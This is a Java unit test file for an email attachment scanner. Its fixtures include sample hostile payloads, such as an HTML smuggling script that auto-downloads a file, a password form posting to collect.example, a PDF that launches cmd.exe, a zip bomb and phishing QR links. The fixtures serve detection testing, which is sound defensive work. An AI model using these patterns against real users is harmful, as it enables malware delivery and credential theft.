package io.palisade.detection.analysis.attachment;

import static io.palisade.detection.analysis.TestMessage.message;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ARCHIVE_BOMB;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ARCHIVE_DANGEROUS_ENTRY;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ARCHIVE_ENCRYPTED;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ARCHIVE_NESTED;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_CREDENTIAL_FORM;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_DISGUISED_EXECUTABLE;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_DISK_IMAGE;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_EXECUTABLE;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_HTML_SCRIPT;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_SCRIPT;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_SHORTCUT;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.ATTACHMENT_TYPE_MISMATCH;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.HTML_SMUGGLING;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.OFFICE_MACRO;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.PDF_JAVASCRIPT;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.PDF_LAUNCH_ACTION;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.PDF_LINK;
import static io.palisade.detection.analysis.attachment.AttachmentAnalyzer.QR_CODE_URL;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.encryptedZip;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.gradient;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.linkTo;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.ole2;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.pdf;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.png;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.qrCodeOnPage;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.qrImage;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.windowsExecutable;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.windowsShortcut;
import static io.palisade.detection.analysis.attachment.AttachmentFixtures.zip;
import static io.palisade.detection.analysis.url.UrlAnalyzer.URL_IP_HOST;
import static org.assertj.core.api.Assertions.assertThat;

import io.palisade.detection.analysis.CollectingFindings;
import io.palisade.detection.analysis.TestMessage;
import io.palisade.detection.analysis.TestScanContext;
import io.palisade.detection.analysis.prefilter.PrefilterAnalyzer;
import io.palisade.detection.api.ScanContext.IndicatorKind;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.Test;

class AttachmentAnalyzerTest {
    private static final byte[] TEXT = "Minutes of the meeting".getBytes(StandardCharsets.UTF_8);

    private final AttachmentAnalyzer analyzer = new AttachmentAnalyzer();

    private CollectingFindings analyze(TestMessage message, TestScanContext context) {
        CollectingFindings findings = new CollectingFindings();
        analyzer.analyze(message.build(), context, findings);
        return findings;
    }

    private List<String> signalsFor(String name, byte[] content) {
        return analyze(message().attach(name, "application/octet-stream", content), TestScanContext.tenant())
                .signals();
    }

    @Test
    void flagsProgramsScriptsShortcutsAndDiskImagesByExtension() {
        assertThat(signalsFor("setup.exe", windowsExecutable())).containsExactly(ATTACHMENT_EXECUTABLE);
        assertThat(signalsFor("Invoice.pdf.js", TEXT)).containsExactly(ATTACHMENT_SCRIPT);
        assertThat(signalsFor("Scan.lnk", windowsShortcut())).containsExactly(ATTACHMENT_SHORTCUT);
        assertThat(signalsFor("Order.iso", TEXT)).containsExactly(ATTACHMENT_DISK_IMAGE);
    }

    @Test
    void flagsProgramsAndShortcutsDisguisedByTheirName() {
        assertThat(signalsFor("invoice.pdf", windowsExecutable())).containsExactly(ATTACHMENT_DISGUISED_EXECUTABLE);
        assertThat(signalsFor("photo.jpg", windowsShortcut())).containsExactly(ATTACHMENT_SHORTCUT);
        assertThat(signalsFor("scan.jpg", pdf(d -> {}, "scan"))).containsExactly(ATTACHMENT_TYPE_MISMATCH);
    }

    @Test
    void acceptsOrdinaryDocumentsImagesAndText() {
        assertThat(signalsFor("notes.txt", TEXT)).isEmpty();
        assertThat(signalsFor("report.pdf", pdf(d -> {}, "Quarterly report"))).isEmpty();
        assertThat(signalsFor("chart.jpg", png(gradient()))).isEmpty();
        assertThat(signalsFor("letter.docx", zip(Map.of("word/document.xml", TEXT))))
                .isEmpty();
        assertThat(signalsFor("letter.doc", ole2())).isEmpty();
        assertThat(signalsFor("", TEXT)).isEmpty();
    }

    @Test
    void flagsMacrosInOle2AndOoxmlDocuments() {
        assertThat(signalsFor("budget.xls", ole2("_VBA_PROJECT_CUR"))).containsExactly(OFFICE_MACRO);
        assertThat(signalsFor("letter.doc", ole2("Macros"))).containsExactly(OFFICE_MACRO);
        assertThat(signalsFor("report.docm", zip(Map.of("word/document.xml", TEXT, "word/vbaProject.bin", TEXT))))
                .containsExactly(OFFICE_MACRO);
    }

    @Test
    void flagsHtmlFilesWithScriptsPasswordFormsOrSmuggling() {
        String smuggler = "<html><body><script>var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d]);"
                + "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';"
                + "a.click();</script></body></html>";
        String login = "<html><body><form action='https://collect.example/p'><input type='email' name='u'>"
                + "<input type=\"password\" name='p'></form><script>document.forms[0].u.value='bob'</script>";

        assertThat(signalsFor("invoice.html", smuggler.getBytes(StandardCharsets.UTF_8)))
                .containsExactly(HTML_SMUGGLING);
        assertThat(signalsFor("voicemail.htm", login.getBytes(StandardCharsets.UTF_8)))
                .containsExactly(ATTACHMENT_HTML_SCRIPT, ATTACHMENT_CREDENTIAL_FORM);
        assertThat(signalsFor(
                        "logo.svg",
                        "<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'></svg>"
                                .getBytes(StandardCharsets.UTF_8)))
                .containsExactly(ATTACHMENT_HTML_SCRIPT);
    }

    @Test
    void acceptsStaticHtmlAndSvg() {
        String receipt = "<html><body><h1>Receipt</h1><table><tr><td>Total</td><td>42.00</td></tr></table>"
                + "<a href='https://shop.example/orders/1' download>Download a copy</a></body></html>";

        assertThat(signalsFor("receipt.html", receipt.getBytes(StandardCharsets.UTF_8)))
                .isEmpty();
        assertThat(signalsFor(
                        "logo.svg",
                        "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>"
                                .getBytes(StandardCharsets.UTF_8)))
                .isEmpty();
    }

    @Test
    void flagsPdfsThatRunCodeOrLaunchPrograms() {
        byte[] javascript = pdf(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")), "x");
        byte[] launch = pdf(
                d -> {
                    PDActionLaunch action = new PDActionLaunch();
                    PDSimpleFileSpecification file = new PDSimpleFileSpecification();
                    file.setFile("cmd.exe");
                    action.setFile(file);
                    d.getDocumentCatalog().setOpenAction(action);
                },
                "x");

        assertThat(signalsFor("statement.pdf", javascript)).containsExactly(PDF_JAVASCRIPT);
        assertThat(signalsFor("statement.pdf", launch)).containsExactly(PDF_LAUNCH_ACTION);
    }

    @Test
    void reportsDocumentsThatCannotBeOpenedButStillSearchesTheirBytes() {
        byte[] brokenPdf = "%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\ngarbage"
                .getBytes(StandardCharsets.ISO_8859_1);
        byte[] brokenOle2 = java.util.Arrays.copyOf(ole2(), 600);

        assertThat(signalsFor("statement.pdf", brokenPdf))
                .containsExactly(AttachmentAnalyzer.ATTACHMENT_UNSCANNABLE, PDF_JAVASCRIPT);
        assertThat(signalsFor("budget.xls", brokenOle2)).containsExactly(AttachmentAnalyzer.ATTACHMENT_UNSCANNABLE);
    }

    @Test
    void sendsPdfLinksThroughTheUrlLayer() {
        assertThat(signalsFor("shared-document.pdf", pdf(linkTo("http://198.51.100.7/secure/"), "Open document")))
                .containsExactly(PDF_LINK, URL_IP_HOST);
    }

    @Test
    void flagsDangerousEncryptedNestedAndBombArchives() {
        byte[] dangerous = zip(Map.of("docs/Invoice.pdf.exe", windowsExecutable()));
        byte[] nested = zip(Map.of("a.zip", zip(Map.of("b.zip", zip(Map.of("c.txt", TEXT))))));
        byte[] bomb = zip(Map.of("zeros.bin", new byte[20 * 1024 * 1024]));

        assertThat(signalsFor("invoice.zip", dangerous)).containsExactly(ARCHIVE_DANGEROUS_ENTRY);
        assertThat(signalsFor("salary.zip", encryptedZip())).containsExactly(ARCHIVE_ENCRYPTED);
        assertThat(signalsFor("files.zip", nested)).containsExactly(ARCHIVE_NESTED);
        assertThat(signalsFor("data.zip", bomb)).containsExactly(ARCHIVE_BOMB);
    }

    @Test
    void acceptsShallowNestingCompressibleFilesAndUnencryptedArchives() {
        byte[] twoLevels = zip(Map.of("inner.zip", zip(Map.of("notes.txt", TEXT))));
        byte[] compressible = zip(Map.of("log.txt", "all quiet\n".repeat(50_000).getBytes(StandardCharsets.UTF_8)));

        assertThat(signalsFor("files.zip", twoLevels)).isEmpty();
        assertThat(signalsFor("logs.zip", compressible)).isEmpty();
        assertThat(ArchiveInspector.hasEncryptedEntry(twoLevels)).isFalse();
        assertThat(ArchiveInspector.hasEncryptedEntry(encryptedZip())).isTrue();
    }

    @Test
    void acceptsOrdinaryArchivesAndChecksTheirEntriesAgainstIndicators() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("report.pdf", pdf(d -> {}, "report"));
        entries.put("notes.txt", TEXT);
        TestMessage withArchive = message().attach("reports.zip", "application/zip", zip(entries));

        assertThat(analyze(withArchive, TestScanContext.tenant()).signals()).isEmpty();
        assertThat(analyze(
                                withArchive,
                                TestScanContext.tenant().indicator(IndicatorKind.SHA256, TestMessage.sha256(TEXT), 95))
                        .details(PrefilterAnalyzer.THREAT_INTEL_MATCH))
                .containsExactly("notes.txt");
    }

    @Test
    void decodesQrCodesInImagesAndPdfPagesAndChecksTheirUrls() {
        byte[] qr = png(qrImage("http://203.0.113.50/m365/login"));
        byte[] qrPdf = pdf(qrCodeOnPage("https://xn--pypal-4ve.com/verify"), "Scan to keep your mailbox");

        CollectingFindings image = analyze(
                message().attach("scan.png", "image/png", qr),
                TestScanContext.tenant().indicator(IndicatorKind.IP, "203.0.113.50", 90));

        assertThat(image.signals()).containsExactly(QR_CODE_URL, URL_IP_HOST, PrefilterAnalyzer.THREAT_INTEL_MATCH);
        assertThat(signalsFor("mailbox.pdf", qrPdf)).containsExactly(QR_CODE_URL, "URL_PUNYCODE");
    }

    @Test
    void ignoresQrCodesWithoutUrlsAndImagesWithoutQrCodes() {
        assertThat(signalsFor("wifi.png", png(qrImage("WIFI:S:Guest;T:WPA;P:welcome;;"))))
                .isEmpty();
        assertThat(signalsFor("photo.png", png(gradient()))).isEmpty();
        assertThat(signalsFor("broken.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 1, 2, 3}))
                .isEmpty();
    }
}
